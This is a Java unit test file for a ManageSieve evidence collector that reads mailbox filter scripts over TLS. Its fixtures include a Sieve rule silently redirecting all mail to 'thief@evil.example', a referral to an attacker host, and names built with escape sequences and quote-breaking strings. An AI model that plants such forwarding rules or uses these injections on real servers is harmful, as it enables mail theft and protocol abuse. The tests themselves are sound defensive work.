package org.mimawari.connector.imap.managesieve;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import javax.net.ssl.SSLSocketFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.mimawari.connector.imap.managesieve.SieveServer.Limits;
import org.mimawari.connector.imap.managesieve.SieveServer.Security;
import org.mimawari.evidence.AutoReply;
import org.mimawari.evidence.Coverage;
import org.mimawari.evidence.EvidenceKind;
import org.mimawari.evidence.MailboxAddress;
import org.mimawari.evidence.MailboxRule;
import org.mimawari.evidence.RuleTrait;

@Timeout(20)
class SieveCollectionTest {

    private static final MailboxAddress MAILBOX = new MailboxAddress("info@shop.example");
    private static final SieveAccount INFO =
            SieveAccount.password(MAILBOX, "info@shop.example", "secret", Optional.empty());
    private static final String FORWARD = "redirect \"thief@evil.example\";\r\n";

    private final ScriptedSieveServer server = new ScriptedSieveServer(false);

    private static String literal(String text) {
        return "{" + text.getBytes(StandardCharsets.UTF_8).length + "}\r\n" + text + "\r\nOK\r\n";
    }

    private RecordedEvidence collect(SieveAccount account) throws IOException {
        return collect(server, account, Security.STARTTLS, Duration.ofSeconds(10));
    }

    private static RecordedEvidence collect(ScriptedSieveServer server, SieveAccount account, Security security,
            Duration session) throws IOException {
        Limits limits = new Limits(Duration.ofSeconds(5), Duration.ofSeconds(5), session, 5, 4L << 20);
        RecordedEvidence sink = new RecordedEvidence();
        try (server) {
            server.start();
            new SieveCollection(new SieveServer("localhost", server.port(), security, "localhost", limits),
                    LoopbackTls.context().getSocketFactory()).collect(account, sink);
        }
        return sink;
    }

    @Test
    void readsActiveAndInactiveScripts() throws IOException {
        server.says("LISTSCRIPTS", "\"waiting\"\r\n\"main\" ACTIVE\r\nOK\r\n")
                .says("GETSCRIPT \"main\"", literal("require \"vacation\"; vacation \"Away\";\r\n"))
                .says("GETSCRIPT \"waiting\"", literal(FORWARD));
        RecordedEvidence sink = collect(INFO);
        assertThat(sink.evidence).filteredOn(AutoReply.class::isInstance).singleElement();
        assertThat(sink.rules()).filteredOn(rule -> rule.name().equals("waiting")).singleElement()
                .extracting(MailboxRule::traits).isEqualTo(Set.of(RuleTrait.INACTIVE_SCRIPT, RuleTrait.KEEPS_NO_COPY));
    }

    @Test
    void coversTheMailboxAndEachScript() throws IOException {
        server.says("LISTSCRIPTS", "\"main\" ACTIVE\r\nOK\r\n").says("GETSCRIPT", literal(FORWARD));
        List<Coverage> coverage = collect(INFO).coverage;
        assertThat(coverage).hasSize(6).allMatch(piece -> piece.state() == Coverage.State.COLLECTED)
                .allMatch(piece -> piece.mailbox().equals(Optional.of(MAILBOX)));
        assertThat(coverage).extracting(Coverage::kind).contains(EvidenceKind.MAILBOX_RULE,
                EvidenceKind.FORWARDING_SETTING, EvidenceKind.AUTO_REPLY);
    }

    @Test
    void sendsNothingButStartTlsInClear() throws IOException {
        collect(INFO);
        assertThat(server.heardInClear).containsExactly("STARTTLS");
        assertThat(server.heard).extracting(line -> line.split(" ")[0])
                .containsExactly("AUTHENTICATE", "LISTSCRIPTS", "LOGOUT");
    }

    @Test
    void sendsNothingWhereTlsIsNotOffered() throws IOException {
        server.says("GREETING", "\"SASL\" \"PLAIN\"\r\nOK \"hi\"\r\n");
        RecordedEvidence sink = collect(INFO);
        assertThat(server.heardInClear).isEmpty();
        assertThat(sink.coverage).isNotEmpty().allMatch(Coverage::isBroken);
        assertThat(sink.reasons()).singleElement().asString().contains("does not offer STARTTLS");
    }

    @Test
    void sendsNothingWhereTlsIsRefused() throws IOException {
        server.says("STARTTLS", "NO \"no tls here\"\r\n");
        assertThat(collect(INFO).coverage).allMatch(Coverage::isBroken);
        assertThat(server.heardInClear).containsExactly("STARTTLS");
    }

    @Test
    void refusesWhatSomebodyInBetweenSlippedInBeforeTls() throws IOException {
        server.says("STARTTLS", "OK\r\n\"SASL\" \"PLAIN\"\r\nOK\r\n");
        RecordedEvidence sink = collect(INFO);
        assertThat(sink.reasons()).singleElement().asString().contains("behind STARTTLS");
        assertThat(server.heard).isEmpty();
    }

    @Test
    void refusesACertificateNobodyVouchesFor() throws IOException {
        RecordedEvidence sink = new RecordedEvidence();
        try (server) {
            server.start();
            new SieveCollection(new SieveServer("localhost", server.port(), Security.STARTTLS, "localhost", Limits.USUAL),
                    (SSLSocketFactory) SSLSocketFactory.getDefault()).collect(INFO, sink);
        }
        assertThat(sink.reasons()).singleElement().asString().contains("unreachable: the TLS certificate of ");
    }

    @Test
    void speaksTlsFromTheFirstByteWhereToldTo() throws IOException {
        ScriptedSieveServer implicit = new ScriptedSieveServer(true);
        assertThat(collect(implicit, INFO, Security.TLS, Duration.ofSeconds(10)).coverage).noneMatch(Coverage::isBroken);
        assertThat(implicit.heard).last().isEqualTo("LOGOUT");
    }

    @Test
    void actsForTheMailboxAsAnAdministrator() throws IOException {
        collect(SieveAccount.password(MAILBOX, "scan-admin", "secret", Optional.of("info@shop.example")));
        String response = server.heard.get(0).split("\"")[3];
        assertThat(new String(Base64.getDecoder().decode(response), StandardCharsets.UTF_8))
                .isEqualTo("info@shop.example\0scan-admin\0secret");
    }

    @Test
    void answersTheErrorThatComesAsAChallenge() throws IOException {
        server.says("AUTHENTICATE", "\"eyJzdGF0dXMiOiI0MDAifQ==\"\r\n").says("\"\"", "NO \"bad token\"\r\n");
        RecordedEvidence sink = collect(SieveAccount.token(MAILBOX, "info@shop.example", "expired"));
        assertThat(server.heard).startsWith("AUTHENTICATE \"XOAUTH2\" \"dXNlcj1pbmZvQHNob3AuZXhhbXBsZQFhdXRoPUJlYXJlciBleHBpcmVkAQE=\"", "\"\"");
        assertThat(sink.reasons()).singleElement().asString().contains("refused the sign-in");
    }

    @Test
    void aRefusedSignInIsAGapWithTheServersCode() throws IOException {
        server.says("AUTHENTICATE", "NO (TRYLATER) \"\u001b[31mlater\"\r\n");
        RecordedEvidence sink = collect(INFO);
        assertThat(sink.coverage).hasSize(3).allMatch(Coverage::isBroken);
        assertThat(sink.reasons().get(0)).endsWith("the server refused the sign-in (TRYLATER)");
    }

    @Test
    void aServerThatIsNotThereIsAGap() throws IOException {
        server.close();
        RecordedEvidence sink = new RecordedEvidence();
        new SieveCollection(new SieveServer("localhost", server.port(), Security.STARTTLS, "localhost", Limits.USUAL), (SSLSocketFactory) SSLSocketFactory.getDefault()).collect(INFO, sink);
        assertThat(sink.coverage).hasSize(3).allMatch(Coverage::isBroken);
    }

    @Test
    void namesOfAnyKindAreAskedForAsTheyWereGiven() throws IOException {
        server.says("LISTSCRIPTS", "\"q\\\"uo\\\\te\" ACTIVE\r\n{6}\r\na\r\nb\u001b[\r\n\"受信フィルタ\"\r\n\".\"\r\nOK\r\n")
                .says("GETSCRIPT", literal("keep;"));
        collect(INFO);
        assertThat(server.heard).contains("GETSCRIPT \"q\\\"uo\\\\te\"", "GETSCRIPT {6+}\r\na\r\nb\u001b[",
                "GETSCRIPT \"受信フィルタ\"", "GETSCRIPT \".\"");
    }

    @Test
    void oneScriptThatIsNotGivenDoesNotStopTheOthers() throws IOException {
        server.says("LISTSCRIPTS", "\"gone\" ACTIVE\r\n\"main\"\r\nOK\r\n").says("GETSCRIPT \"main\"", literal(FORWARD))
                .says("GETSCRIPT \"gone\"", "NO (REFERRAL \"sieve://evil.example/)\") {4}\r\n\u001b[3x\r\n");
        RecordedEvidence sink = collect(INFO);
        assertThat(sink.rules()).hasSize(1);
        assertThat(sink.rejected).singleElement().asString().endsWith("/gone: the server did not give the script (REFERRAL)");
        assertThat(sink.coverage).filteredOn(Coverage::isBroken).hasSize(3);
    }

    @Test
    void includesAreResolvedWithinTheListAndGlobalOnesNamed() throws IOException {
        server.says("LISTSCRIPTS", "\"main\" ACTIVE\r\n\"inner\"\r\nOK\r\n").says("GETSCRIPT \"inner\"", literal(FORWARD))
                .says("GETSCRIPT \"main\"", literal("include \"inner\"; include :global \"company\";\r\n"));
        RecordedEvidence sink = collect(INFO);
        assertThat(sink.rules()).filteredOn(rule -> rule.traits().equals(Set.of(RuleTrait.KEEPS_NO_COPY)))
                .singleElement().extracting(rule -> rule.ref().source()).asString().endsWith("/inner");
        assertThat(sink.reasons()).singleElement().asString().contains("global script 'company'");
        assertThat(sink.coverage).noneMatch(Coverage::isBroken);
    }

    @Test
    void moreScriptsThanAreReadIsAGapButTheActiveOneIsRead() throws IOException {
        server.says("LISTSCRIPTS", "\"x\"\r\n".repeat(9) + "\"main\" ACTIVE\r\nOK\r\n").says("GETSCRIPT", literal(FORWARD));
        RecordedEvidence sink = collect(INFO);
        assertThat(server.heard).contains("GETSCRIPT \"main\"");
        assertThat(sink.reasons()).anyMatch(why -> why.contains("of 10 scripts"));
        assertThat(sink.coverage).anyMatch(Coverage::isBroken);
    }

    @Test
    void aSessionEndsWhenItsTimeIsUp() throws IOException {
        server.says("LISTSCRIPTS", "\"main\" ACTIVE\r\n");
        RecordedEvidence sink = collect(server, INFO, Security.STARTTLS, Duration.ofMillis(300));
        assertThat(sink.reasons()).singleElement().asString().contains("longer than it may");
    }

    @Test
    void hugeAnswersEndTheSession() throws IOException {
        server.says("LISTSCRIPTS", "\"main\" ACTIVE\r\nOK\r\n").says("GETSCRIPT", "{1500000000}\r\n# x");
        assertThat(collect(INFO).reasons()).anyMatch(why -> why.contains("longer than"));
    }
}
